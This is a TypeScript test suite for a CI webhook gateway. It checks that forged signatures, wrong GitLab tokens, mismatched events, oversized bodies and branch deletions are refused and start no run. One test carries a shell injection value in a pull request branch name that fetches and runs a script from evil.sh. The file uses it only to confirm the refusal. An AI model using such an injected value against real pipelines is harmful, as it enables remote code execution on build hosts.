/**
 * Hostile and broken deliveries against the real gateway: every one is refused or ignored with
 * a reason, starts no run, and (for authentication failures) stores no body.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac, randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import type { Harness } from '../support/api-harness.js';
import { readFixture } from '../support/fixtures.js';
import {
  GITHUB_SECRET,
  GITLAB_TOKEN,
  createWebhookPipeline,
  githubHeaders,
  gitlabHeaders,
  postGithub,
  postGitlab,
  pushFixtures,
  runCount as pipelineRunCount,
  startGateway,
} from './gateway-support.js';

const { PUSH, GL_PUSH } = pushFixtures();

describe('bad webhook input', () => {
  let h: Harness;
  let admin: string;
  let pipelineId: number;

  before(async () => {
    h = await startGateway();
    admin = await h.login();
    pipelineId = await createWebhookPipeline(h, admin, {
      name: 'catch-all',
      repository_url: 'https://github.com/Codertocat/Hello-World.git',
      branch: '**',
      trigger_events: ['push', 'tag', 'pull_request'],
    });
  });
  after(() => h.close());

  const runCount = () => pipelineRunCount(h, admin, pipelineId);
  const deliveries = async (query = '') => (await h.request('GET', `/api/webhook-deliveries/?page_size=100${query}`, { token: admin })).json;

  const rejected = async (headers: Record<string, string>, body: Buffer | string, reason: RegExp) => {
    const before = await runCount();
    const r = await postGithub(h, body, headers);
    assert.equal(r.status, 401, r.text);
    assert.equal(r.json.error.code, 'AUTHENTICATION_ERROR');
    assert.match(r.json.error.message, reason);
    assert.equal(await runCount(), before, 'no run');
  };

  test('missing, empty, truncated, uppercase and SHA-1-only signatures → 401', async () => {
    const good = githubHeaders(PUSH, 'push');
    const { 'x-hub-signature-256': sig, ...unsigned } = good;
    await rejected(unsigned, PUSH, /Missing X-Hub-Signature-256/);
    await rejected({ ...unsigned, 'x-hub-signature-256': '' }, PUSH, /Empty|Missing/);
    await rejected({ ...unsigned, 'x-hub-signature-256': sig!.slice(0, 40) }, PUSH, /64 hex digits/);
    await rejected({ ...unsigned, 'x-hub-signature-256': 'sha256=' + sig!.slice(7).toUpperCase() }, PUSH, /lowercase/);
    await rejected({ ...unsigned, 'x-hub-signature': 'sha1=' + createHmac('sha1', GITHUB_SECRET).update(PUSH).digest('hex') }, PUSH, /Only the SHA-1/);
    await rejected({ ...unsigned, 'x-hub-signature-256': sig!.slice(7) }, PUSH, /must start with "sha256="/);
  });

  test('a valid signature over a body changed afterwards → 401', async () => {
    const headers = githubHeaders(PUSH, 'push');
    const changed = Buffer.from(PUSH.toString('utf8').replace('"master"', '"mastex"'));
    await rejected(headers, changed, /does not match the body/);
    // Re-serialising the JSON (same data, other bytes) also breaks it: the raw bytes are signed.
    await rejected(headers, JSON.stringify(JSON.parse(PUSH.toString('utf8'))), /does not match the body/);
  });

  test('rejected deliveries are listed with the reason but without their body or claimed id', async () => {
    const list = await deliveries('&verdict=rejected');
    assert.ok(list.count >= 8);
    for (const d of list.results) {
      assert.equal(d.verdict, 'rejected');
      assert.ok(d.reason);
      assert.deepEqual(d.runs, []);
    }
    const stored = await h.ctx.db.kysely.selectFrom('webhook_deliveries').select(['payload', 'delivery_key']).where('verdict', '=', 'rejected').execute();
    assert.ok(stored.every((d) => d.payload === '' && d.delivery_key.startsWith('rejected:')));
  });

  test('a GitLab token that is a prefix of the real one, has a trailing space, or another case → 401', async () => {
    // HTTP strips whitespace around field values (RFC 9110, 5.5), so a trailing space never reaches
    // the comparison on the wire (verify-token.test.ts covers it); a space inside the value does.
    for (const token of [GITLAB_TOKEN.slice(0, -1), `${GITLAB_TOKEN} x`, ` ${GITLAB_TOKEN}x`, `${GITLAB_TOKEN}0`, GITLAB_TOKEN.toUpperCase(), '']) {
      const r = await postGitlab(h, GL_PUSH, { ...gitlabHeaders('Push Hook'), 'x-gitlab-token': token });
      assert.equal(r.status, 401, `${JSON.stringify(token)}: ${r.text}`);
    }
    const { 'x-gitlab-token': _t, ...noToken } = gitlabHeaders('Push Hook');
    assert.equal((await postGitlab(h, GL_PUSH, noToken)).status, 401);
  });

  test('an event header that disagrees with the body → 400, stored as rejected, no run', async () => {
    const before = await runCount();
    const pr = readFixture('webhooks', 'github', 'pull_request.opened.octokit.json');
    const r = await postGithub(h, pr, githubHeaders(pr, 'push'));
    assert.equal(r.status, 400, r.text);
    assert.match(r.json.error.message, /X-GitHub-Event is "push" but the body is a pull_request delivery/);
    const gl = await postGitlab(h, GL_PUSH, gitlabHeaders('Merge Request Hook'));
    assert.equal(gl.status, 400, gl.text);
    assert.match(gl.json.error.message, /object_kind is "push"/);
    assert.equal(await runCount(), before);
  });

  test('unknown events → 202 with no runs, ignored with the reason', async () => {
    const body = Buffer.from(JSON.stringify({ action: 'created', repository: { clone_url: 'https://github.com/Codertocat/Hello-World.git' } }));
    const id = randomUUID();
    const r = await postGithub(h, body, githubHeaders(body, 'star', id));
    assert.equal(r.status, 202, r.text);
    assert.deepEqual(r.json.triggered_runs, []);
    const gl = await postGitlab(h, body, gitlabHeaders('Pipeline Hook'));
    assert.equal(gl.status, 202);
    const d = (await deliveries()).results.find((x: { delivery_id: string }) => x.delivery_id === id);
    assert.equal(d.verdict, 'ignored');
    assert.match(d.reason, /"star" does not trigger runs/);
  });

  test('a body that is not JSON (but correctly signed) → 400', async () => {
    const body = '{"ref": "refs/heads/main",';
    const r = await postGithub(h, body, githubHeaders(body, 'push'));
    assert.equal(r.status, 400);
    assert.equal(r.json.error.code, 'VALIDATION_ERROR');
  });

  test('a 30 MB body → 413 in the unified error body', async () => {
    const body = Buffer.alloc(30 * 1024 * 1024, 0x20);
    const { status, text } = await rawPost(h.gatewayUrl + '/api/v1/webhooks/github', body, githubHeaders('x', 'push'));
    assert.equal(status, 413);
    assert.equal(JSON.parse(text).error.code, 'PAYLOAD_TOO_LARGE');
  });

  test('a branch deletion starts nothing (and never the zero commit)', async () => {
    const before = await runCount();
    for (const file of ['push_branch_delete.go-scm.json', 'push_tag_delete.go-scm.json']) {
      const body = readFixture('webhooks', 'github', file);
      const r = await postGithub(h, body, githubHeaders(body, 'push'));
      assert.equal(r.status, 202);
      assert.deepEqual(r.json.triggered_runs, []);
    }
    // A push that only says after=0…0 (no deleted flag) is a deletion too.
    const payload = JSON.parse(PUSH.toString('utf8'));
    payload.after = '0'.repeat(40);
    delete payload.deleted;
    payload.head_commit = null;
    const body = JSON.stringify(payload);
    const r = await postGithub(h, body, githubHeaders(body, 'push'));
    assert.equal(r.status, 202);
    assert.deepEqual(r.json.triggered_runs, []);
    assert.equal(await runCount(), before);
  });

  test('a fork pull request whose head ref is a shell injection string is refused, no run', async () => {
    const before = await runCount();
    const payload = JSON.parse(readFixture('webhooks', 'github', 'pull_request.opened.octokit.json').toString('utf8'));
    payload.pull_request.head.ref = 'x";curl${IFS}evil.sh|sh;#';
    payload.pull_request.head.repo.full_name = 'attacker/Hello-World';
    const body = JSON.stringify(payload);
    const r = await postGithub(h, body, githubHeaders(body, 'pull_request'));
    assert.equal(r.status, 400, r.text);
    assert.match(r.json.error.message, /Refusing pull request head branch/);
    assert.equal(await runCount(), before);
  });

  test('a delivery id that is not printable ASCII → 400', async () => {
    const r = await postGithub(h, PUSH, { ...githubHeaders(PUSH, 'push'), 'x-github-delivery': 'a'.repeat(201) });
    assert.equal(r.status, 400);
  });
});

/** A POST with node:http: a 413 may arrive while the body is still being sent. */
function rawPost(url: string, body: Buffer, headers: Record<string, string>): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, { method: 'POST', headers: { ...headers, 'content-length': String(body.length) } }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.on('error', (e) => ((e as NodeJS.ErrnoException).code === 'EPIPE' || (e as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(e)));
    req.end(body);
  });
}
